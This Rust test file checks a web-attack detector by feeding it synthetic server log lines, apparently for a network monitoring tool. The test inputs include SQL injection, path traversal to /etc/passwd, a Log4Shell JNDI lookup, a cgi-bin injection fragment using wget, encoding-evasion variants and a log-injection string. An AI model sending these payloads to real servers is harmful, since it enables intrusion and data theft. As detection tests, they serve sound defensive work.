//! Requests that attack a web server, or look for a way in, and those that only seem so.

use nms_proto::event::Body;

use crate::host::{Hub, check, line};

fn request(from: &str, path: &str, status: u16) -> Body {
    let text =
        format!("{from} - - [10/Mar/2026:10:00:00 +0000] \"GET {path} HTTP/1.1\" {status} 153 \"-\" \"Mozilla/5.0\"");
    line("nginx", 0, &text)
}

#[test]
fn one_exploit_is_low_and_several_are_more() {
    let mut hub = Hub::new();
    let paths = ["/?q=1%27%20UNION%20SELECT%20password", "/../../../etc/passwd", "/?x=${jndi:ldap://203.0.113.9/a}"];
    for (at, path) in paths.iter().enumerate() {
        hub.feed(at as f64 * 2.0, "web", request("203.0.113.9", path, 404));
    }
    check(
        &hub.text(),
        "1 LOW web_attack x1 open: 203.0.113.9 attacks a web server: SQL injection
         2 MEDIUM web_attack x3 open: 203.0.113.9 attacks a web server: Log4Shell (CVE-2021-44228)",
    );
    for more in 0..15 {
        hub.feed(10.0 + f64::from(more), "web", request("203.0.113.9", "/cgi-bin/x?;wget+http", 404));
    }
    assert_eq!(hub.alerts(), 1);
    assert_eq!(hub.said.iter().map(|finding| finding.floor.as_str()).max(), Some("MEDIUM"));
    assert!(hub.said.iter().any(|finding| finding.floor.as_str() == "HIGH"), "{}", hub.text());
}

#[test]
fn doors_that_scanners_try_are_told_as_one_incident() {
    let mut hub = Hub::new();
    for (at, path) in ["/.env", "/wp-login.php", "/phpmyadmin/", "/.git/config", "/admin.php", "/.env", "/actuator"]
        .iter()
        .enumerate()
    {
        hub.feed(at as f64, "web", request("203.0.113.9", path, 404));
    }
    check(
        &hub.text(),
        "1 LOW web_attack x2 open: 203.0.113.9 looks for weak spots of a web server
         2 MEDIUM web_attack x5 open: 203.0.113.9 looks for weak spots of a web server",
    );
    let first = &hub.said[1];
    assert_eq!(
        &*first.reasons[1],
        "203.0.113.9 asked for /admin.php: 5 doors that scanners try within 4 s (limit 5 in 5 min)"
    );
    assert_eq!(first.actor.as_deref(), Some("203.0.113.9"));
}

#[test]
fn an_answer_with_success_is_said() {
    let mut hub = Hub::new();
    hub.feed(0.0, "web", request("203.0.113.9", "/index.php?page=../../etc/passwd", 200));
    assert!(hub.said[0].reasons.iter().any(|reason| reason.contains("answered with success")));
}

/// A visitor, a search engine that follows old links, and the site's own odd paths.
#[test]
fn visitors_and_crawlers_are_silent() {
    let mut hub = Hub::new();
    for at in 0..200 {
        let path = format!("/news/{}?page=2&sort=up", at % 40);
        hub.feed(f64::from(at), "web", request("198.51.100.7", &path, 200));
        let old = format!("/old/{}.html", at % 20);
        hub.feed(f64::from(at) + 0.5, "web", request("198.51.100.8", &old, 404));
    }
    for path in ["/wp-login.php", "/administrator", "/select-a-union", "/docs/etc/passwords.html", "/a.b/c..d"] {
        hub.feed(300.0, "web", request("198.51.100.9", path, 200));
    }
    check(&hub.text(), "");
}

#[test]
fn a_scan_of_pages_that_are_not_there_is_seen() {
    let mut hub = Hub::new();
    for at in 0..40 {
        hub.feed(f64::from(at), "web", request("203.0.113.9", &format!("/x{at}"), 404));
    }
    check(&hub.text(), "1 MEDIUM web_attack x30 open: 203.0.113.9 looks for weak spots of a web server");
}

/// What a client sends is its own: another's address in the path accuses nobody.
#[test]
fn a_path_cannot_accuse_another() {
    let mut hub = Hub::new();
    for _ in 0..3 {
        let path = "/../../etc/passwd\\\" 200 5 198.51.100.1 - - [x] \\\"GET /";
        hub.feed(0.0, "web", request("203.0.113.9", path, 404));
    }
    assert!(hub.said.iter().all(|finding| finding.actor.as_deref() == Some("203.0.113.9")), "{}", hub.text());
    assert_eq!(hub.alerts(), 1);
}

/// What ordinary clients ask for all day.
#[test]
fn clients_of_ordinary_sites_are_silent_or_low() {
    let from = "198.51.100.7";
    let runs: [(&str, Vec<Body>); 5] = [
        (
            "pictures by address",
            (0..20).map(|at| request(from, &format!("/_next/image?url=https%3A%2F%2Fcdn.example.com%2F{at}.png&w=640"), 200)).collect(),
        ),
        ("an address to come back to", (0..20).map(|_| request(from, "/oauth2/authorize?redirect_uri=https%3A%2F%2Fa.example", 302)).collect()),
        (
            "a desktop's own names",
            ["/dav/.DS_Store", "/dav/._.", "/dav/.hidden", "/dav/.Trashes", "/dav/.metadata_never_index"].map(|path| request(from, path, 404)).into(),
        ),
        (
            "a monitor's",
            ["/actuator/health", "/actuator/info", "/actuator/prometheus", "/actuator/metrics", "/actuator/health/liveness"].map(|path| request(from, path, 200)).into(),
        ),
        (
            "a build's",
            (0..40)
                .map(|at| {
                    let text = format!("{from} - - [10/Mar/2026:10:00:00 +0000] \"GET /repository/releases/a{at}.pom HTTP/1.1\" 404 1 \"-\" \"Apache-Maven/3.9.6 (Java 17)\"");
                    line("nginx", 0, &text)
                })
                .collect(),
        ),
    ];
    for (what, requests) in runs {
        let mut hub = Hub::new();
        for (at, body) in requests.into_iter().enumerate() {
            hub.feed(at as f64, "web", body);
        }
        check(&hub.text(), "");
        assert!(hub.said.is_empty(), "{what}");
    }
}

#[test]
fn padding_and_double_escapes_hide_nothing() {
    let long = "a".repeat(6_000);
    for path in [
        format!("/?x={long}&id=1%20union%20select%20password"),
        format!("/?id=1%2520union%2520select%2520password&x={long}"),
        "/%252e%252e/%252e%252e/etc/hosts".to_owned(),
        "/?id=1%20union/**/select%20password".to_owned(),
    ] {
        let mut hub = Hub::new();
        hub.feed(0.0, "web", request("203.0.113.9", &path, 404));
        assert_eq!(hub.said.len(), 1, "{path:.40}");
    }
    let mut hub = Hub::new();
    let text = "203.0.113.9 - - [10/Mar/2026:10:00:00 +0000] \"GET / HTTP/1.1\" 200 1 \"${jndi:ldap://203.0.113.9/a}\" \"Mozilla/5.0\"";
    hub.feed(0.0, "web", line("nginx", 0, text));
    assert_eq!(hub.said.len(), 1, "in the referer");
}

/// A rule set says three things of one request; it is one.
#[test]
fn several_rules_of_one_request_are_one() {
    let mut hub = Hub::new();
    for (at, id) in ["a", "a", "a", "b"].iter().enumerate() {
        let text = format!(
            "[Thu Sep 30 13:27:06 2021] [:error] [pid 2560] [client 203.0.113.9:37752] [client 203.0.113.9] ModSecurity: Warning. Pattern match \"x\" [unique_id \"{id}\"]"
        );
        hub.feed(at as f64, "web", line("apache2", 0, &text));
    }
    check(&hub.text(), "1 LOW web_attack x1 open: 203.0.113.9 looks for weak spots of a web server");
}
